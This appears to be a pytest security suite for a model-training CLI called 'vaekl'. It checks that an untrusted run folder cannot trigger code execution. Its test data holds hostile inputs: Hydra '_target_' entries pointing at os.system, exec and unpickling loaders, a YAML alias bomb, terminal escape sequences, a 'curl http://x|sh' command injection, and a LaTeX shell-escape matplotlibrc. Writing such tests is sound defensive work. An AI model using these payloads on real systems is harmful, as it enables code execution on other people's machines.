"""A run folder from a stranger: each way to have code run is tried, and none is taken."""

import json
import os
import re
import shutil
import subprocess
import sys
from itertools import product

import pytest
import yaml
from cli_helpers import SMALL, contents, finished, process, refused, trained, vaekl

MINE = """
from pathlib import Path

from vaekl import Gaussian

Path("ran").touch()


class Mine(Gaussian):
    pass
"""

#: (where in the config, what is put there)
ATTACKS = {
    "a function of Python's": ("likelihood", {"_target_": "os.system", "command": "touch ran"}),
    "a builtin": ("optim", {"_target_": "builtins.exec", "lr": 1, "_args_": ["open('ran', 'w')"]}),
    "through a module of vaekl's": ("likelihood", {"_target_": "vaekl.cli.os.system", "command": "touch ran"}),
    "vaekl's own, but no option": (
        "likelihood",
        {"_target_": "vaekl.store.read.write_json", "path": "ran", "content": {}},
    ),
    "vaekl's public face, but no option": ("likelihood", {"_target_": "vaekl.load", "path": "evil"}),
    "vaekl's option by where it lies": ("likelihood._target_", "vaekl.model.likelihoods.Gaussian"),
    "an unpickler": ("dataset", {"_target_": "torch.load", "f": "evil.pt", "weights_only": False}),
    "the hub": ("model", {"_target_": "torch.hub.load", "repo_or_dir": "evil", "source": "local"}),
    "deep in a list": ("model.hidden", [{"_target_": "subprocess.getoutput", "cmd": "touch ran"}]),
    "deep in a group": ("trainer.extra", {"a": {"b": [[{"_target_": "os.system", "command": "touch ran"}]]}}),
    "a list as the name": ("likelihood._target_", ["os.system"]),
    "a class of one's own": ("likelihood", {"_target_": "mine.Mine"}),
    "an optimiser's neighbour": ("optim._target_", "torch.optim.sys.exit"),
    "what the environment holds": ("dataset.name", "${oc.env:HOME}"),
    "a name that is composed": ("likelihood._target_", "${oc.decode:os.system}"),
}


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return trained(tmp_path_factory.mktemp("trust"))


def stranger(run, where, what):
    """The run, with something else in its config, and not finished."""
    file = run / "config.yaml"
    content = yaml.safe_load(file.read_text())
    *path, last = where.split(".")
    node = content
    for key in path:
        node = node[key]
    node[last] = what
    file.write_text(yaml.safe_dump(content))
    (run / "results.json").unlink()
    return run


@pytest.mark.parametrize(
    ("attack", "verb"), [*((attack, "resume") for attack in ATTACKS), *product([*ATTACKS][:2], ["eval", "sample"])]
)
def test_a_strangers_config_calls_nothing(attack, verb, run, tmp_path, monkeypatch):
    monkeypatch.syspath_prepend(tmp_path)
    (tmp_path / "mine.py").write_text(MINE)
    folder = stranger(shutil.copytree(run, tmp_path / "run"), *ATTACKS[attack])
    before = contents(folder)
    refused(vaekl(tmp_path, verb, str(folder)), str(folder / "config.yaml"))
    assert not (tmp_path / "ran").exists() and not (folder / "ran").exists()
    assert contents(folder) == before | ({".lock": b""} if verb == "resume" else {})


@pytest.mark.parametrize("tag", ["!!pairs", "!!omap", "!!set", "!!python/tuple"])
@pytest.mark.parametrize("target", ["torch.load", "joblib.load", "${oc.env:HOME}"])
def test_tags_hide_nothing(tag, target, run, tmp_path):
    """YAML makes lists of tuples of some, and Hydra calls what is in those."""
    folder = shutil.copytree(run, tmp_path / "run")
    file = folder / "config.yaml"
    attack = f"hidden: {tag} [a: {{_target_: '{target}', f: evil.pt}}]"
    file.write_text(re.sub(r"hidden:\n +- 16", attack, file.read_text()))
    assert attack in file.read_text()
    refused(vaekl(tmp_path, "eval", str(folder)), str(file), "tags")


def test_what_is_vouched_for_is_called_and_nothing_else(tmp_path):
    (tmp_path / "mine.py").write_text("import os\n" + MINE)

    def run(*words):
        answer = finished(process(tmp_path, *words, here=False))
        ran = (tmp_path / "ran").exists()
        (tmp_path / "ran").unlink(missing_ok=True)
        return answer, ran

    small = ("trainer.steps=2", "trainer.valid_every=2", "model.hidden=[4]", "hydra.run.dir=run")
    answer, ran = run("train", "likelihood=custom", "likelihood._target_=mine.Mine", *small)
    assert (answer.code, ran) == (0, True), answer.err
    answer, ran = run("eval", "run", "eval.k=1", "--trust", "min")
    assert answer.code == 1 and "'mine.Mine' called" in answer.err and "--trust mine" in answer.err
    assert not ran
    answer, ran = run("eval", "run", "eval.k=1", "--trust", "mine")
    assert (answer.code, ran) == (0, True), answer.err
    stranger(tmp_path / "run", "likelihood", {"_target_": "mine.os.mkdir", "path": "made"})
    answer, _ = run("eval", "run", "eval.k=1", "--trust", "mine")
    assert answer.code == 1 and "'mine.os.mkdir' called" in answer.err
    assert not (tmp_path / "made").exists()


@pytest.mark.nightly
def test_what_is_vouched_for_is_called_in_other_processes_too(tmp_path):
    (tmp_path / "mine.py").write_text("import os\n" + MINE)
    words = ("likelihood=custom", "likelihood._target_=mine.Mine", "trainer.steps=2", "model.hidden=[4]")
    for seed in ("0", "1"):
        trained = finished(process(tmp_path, "train", *words, f"seed={seed}", f"hydra.run.dir=many/{seed}", here=False))
        assert trained.code == 0, trained.err
    (tmp_path / "ran").unlink()
    answer = finished(process(tmp_path, "eval", "many", "eval.k=1", "--trust", "mine", here=False))
    assert (answer.code, (tmp_path / "ran").exists()) == (0, True), answer.err


def test_what_lies_in_a_strangers_folder_is_not_imported(run, tmp_path):
    """TensorBoard looks for TensorFlow, Rich for colorama, and more: all would be found where the command is typed."""
    folder = shutil.copytree(run, tmp_path / "run")
    for name in ("tensorflow", "tqdm", "pandas", "psutil", "pynvml", "colorama", "gmpy2", "defusedxml", "triton"):
        (folder / f"{name}.py").write_text("from pathlib import Path\nPath('ran').touch()\nraise ImportError\n")
    (folder / "results.json").unlink()
    both = f"import sys; from vaekl.cli import main; sys.exit(main(['resume', '.']) or main({['train', *SMALL]}))"
    command, environment = [sys.executable, "-P", "-c", both], {**os.environ, "OMP_NUM_THREADS": "1"}
    answer = subprocess.run(command, cwd=folder, capture_output=True, text=True, env=environment)
    assert answer.returncode == 0, answer.stderr
    assert (folder / "results.json").exists() and list(folder.glob("outputs/*/results.json"))
    assert not (folder / "ran").exists()


@pytest.mark.parametrize("library", ["os", "torch", "torch.optim", "vaekl", "numpy", "hydra.utils"])
def test_a_library_cannot_be_vouched_for(library, run, tmp_path):
    folder = stranger(shutil.copytree(run, tmp_path / "run"), "likelihood._target_", f"{library}.load")
    assert "--trust" not in refused(vaekl(tmp_path, "eval", str(folder)), "somebody changed it")
    refused(vaekl(tmp_path, "eval", str(folder), "--trust", library), f"--trust {library} would let")


@pytest.mark.parametrize("word", ["--trust", "--trust=", "--trust=a b", "--trust=os.system()"])
def test_only_a_module_can_be_vouched_for(word, tmp_path):
    refused(vaekl(tmp_path, "eval", "run", word), "--trust", "module")


def test_the_same_command_goes_on_with_the_user_s_own_class(tmp_path, monkeypatch):
    monkeypatch.syspath_prepend(tmp_path)
    (tmp_path / "mine.py").write_text(MINE)
    words = ("likelihood=custom", "likelihood._target_=mine.Mine", "optim=sgd")
    run = trained(tmp_path, *words)
    (run / "results.json").unlink()
    assert trained(tmp_path, *words) == run
    assert (run / "results.json").exists()


def test_a_config_that_unfolds_is_refused(run, tmp_path):
    """Ten aliases of ten aliases of ...: a billion laughs."""
    lines = ["a0: &a0 [lol]"] + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    (tmp_path / "config.yaml").write_text("\n".join(lines))
    refused(vaekl(tmp_path, "eval", str(tmp_path)), "aliases")
    (tmp_path / "config.yaml").write_text("[" * 2_000)
    refused(vaekl(tmp_path, "eval", str(tmp_path)), "config.yaml")


def test_control_characters_do_not_reach_the_terminal(run, tmp_path):
    """They clear the screen, name the window, fill the clipboard; and no command to be pasted is a stranger's."""
    folder = shutil.copytree(run, tmp_path / "run")
    file = folder / "facts.json"
    facts = json.loads(file.read_text())
    facts["command"] = "vaekl train\n\x1b[2Jevil; curl http://x|sh"
    facts["likelihood"]["name"] = "\x1b]0;pwn\x07\x1b[31mX\x9b"
    file.write_text(json.dumps(facts))
    refused(vaekl(tmp_path, "audit", "run"), "facts.json", "control characters")
    facts["likelihood"]["name"], facts["command"] = "cb", "vaekl train hydra.run.dir=/home x; curl http://x|sh"
    file.write_text(json.dumps(facts))
    evil = folder.rename(tmp_path / "x; curl http:||x")
    card = vaekl(tmp_path, "audit", evil.name)
    page = vaekl(tmp_path, "report", evil.name, "report.pictures=0", "report.measure=false")
    assert (card.code, page.code) == (0, 0), card.err + page.err
    report = {name: (evil / "report" / name).read_text() for name in ("report.html", "report.md", "runs.csv")}
    for text in (card.out, *report.values()):
        assert "/home" not in text and "|sh" not in text and "vaekl train" in text
    (evil / "results.json").unlink()
    (evil / "last.pt").unlink()
    sentence = refused(vaekl(tmp_path, "eval", evil.name), "has no last.pt")
    assert "`vaekl resume 'x; curl http:||x'`" in sentence


@pytest.mark.nightly
def test_a_report_obeys_no_matplotlibrc_of_a_stranger(run, tmp_path):
    (tmp_path / "sweep").mkdir()
    shutil.copytree(run, tmp_path / "sweep" / "run")
    (tmp_path / "matplotlibrc").write_text("text.usetex: True\ntext.latex.preamble: \\immediate\\write18{touch ran}\n")
    (tmp_path / "latex").write_text("#!/bin/sh\ntouch latex_ran\nexit 1\n")
    (tmp_path / "latex").chmod(0o755)
    environment = {**os.environ, "OMP_NUM_THREADS": "1", "PATH": f"{tmp_path}:{os.environ['PATH']}"}
    command = [sys.executable, "-P", "-m", "vaekl", "report", "sweep", "report.pictures=0", "report.measure=false"]
    answer = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, env=environment)
    assert answer.returncode == 0, answer.stderr
    assert not (tmp_path / "latex_ran").exists()


@pytest.mark.nightly  # some processes, one after the other
def test_the_processes_of_a_sweep_import_nothing_from_where_it_was_typed(tmp_path):
    for name in ("joblib", "vaekl", "torch"):
        (tmp_path / f"{name}.py").write_text("from pathlib import Path\nPath('ran').touch()\n")
    environment = {**os.environ, "OMP_NUM_THREADS": "1"}
    command = [sys.executable, "-P", "-m", "vaekl", "train", "-m", "seed=0,1", *SMALL]
    answer = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, env=environment)
    assert answer.returncode == 0, answer.stderr
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("weights", ["../../x", "/dev/zero", 3, None, ["last.pt"]], ids=str)
def test_results_name_only_the_run_s_own_checkpoints(weights, run, tmp_path):
    folder = shutil.copytree(run, tmp_path / "run")
    figures = json.loads((folder / "results.json").read_text()) | {"weights": weights}
    (folder / "results.json").write_text(json.dumps(figures))
    refused(vaekl(tmp_path, "eval", "run"), "results.json", "weights")
